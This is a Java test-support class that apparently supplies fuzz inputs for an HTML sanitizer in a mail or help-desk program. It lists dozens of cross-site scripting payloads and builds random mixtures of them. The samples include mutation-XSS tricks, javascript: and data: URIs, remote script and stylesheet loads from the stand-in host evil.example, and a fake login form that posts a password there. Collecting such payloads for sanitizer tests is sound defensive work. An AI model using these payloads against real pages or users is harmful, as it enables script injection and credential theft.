package sportello.base;

import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/** What attackers have sent to mail programs and help desks. */
final class HostileHtml {

    private static final List<String> SAMPLES = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"x\"onerror=\"alert(1)\">",
            "<img/src=x/onerror=alert(1)>",
            "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
            "<img src=\"cid:a\" onload=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert&#40;1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"  javascript:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"\u0001javascript:alert(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"//evil.example/\">x</a>",
            "<a href='https://a\" onmouseover=\"alert(1)'>x</a>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<p style=\"width:expression(alert(1))\">x</p>",
            "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</p>",
            "<p style=\"color:red;behavior:url(#default#time2)\">x</p>",
            "<p style=\"-moz-binding:url(//evil.example/x)\">x</p>",
            "<p style='font-family:\"</style><script>alert(1)</script>\"'>x</p>",
            "<style>*{background:url(javascript:alert(1))}</style>",
            "<style><!--</style><script>alert(1)//--></script>",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<!DOCTYPE html><html><body onload=alert(1)><p>x",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
            "<embed src=\"//evil.example/x.swf\">",
            "<base href=\"//evil.example/\">",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<link rel=stylesheet href=\"//evil.example/x.css\">",
            "<form action=\"//evil.example/\"><input name=password><button>Accesso</button></form>",
            "<button formaction=\"javascript:alert(1)\">x</button>",
            "<details open ontoggle=alert(1)>x</details>",
            "<video><source onerror=alert(1)></video>",
            "<input autofocus onfocus=alert(1)>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<table background=\"javascript:alert(1)\"><tr><td>x",
            "<xss style=\"xss:expression(alert(1))\">",
            "<div id=\"getElementById\" class=\"modal\" name=\"body\">x</div>",
            "<template><script>alert(1)</script></template>",
            "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
            "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
            "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
            "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
            "\u003cimg src=x onerror=alert(1)\u003e",
            "<p title=\"a&quot; onclick=&quot;alert(1)\">x</p>",
            "<p lang=\"en&quot;onclick=alert(1)\">x</p>",
            "<font color=\"red;}</style><script>\">x</font>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "{{constructor.constructor('alert(1)')()}}<b>x",
            "<plaintext><p>x",
            "<p>\0<b\0>x</b>",
            "<a href=https://a.example/<script>alert(1)</script>>x</a>",
            "<div><div><div><div><b><i><u><p>mai chiuso",
            "</p></div></td></blockquote>",
            "<ul><ul><li><table><li>x</table>");

    private HostileHtml() {}

    static Stream<String> samples() {
        return SAMPLES.stream();
    }

    /** Three samples cut and glued anywhere. */
    static String mixture(Random random) {
        var mixture = new StringBuilder();
        for (var i = 0; i < 3; i++) {
            var sample = SAMPLES.get(random.nextInt(SAMPLES.size()));
            var cut = random.nextInt(sample.length() + 1);
            mixture.append(random.nextBoolean() ? sample.substring(0, cut) : sample.substring(cut));
        }
        return mixture.toString();
    }
}
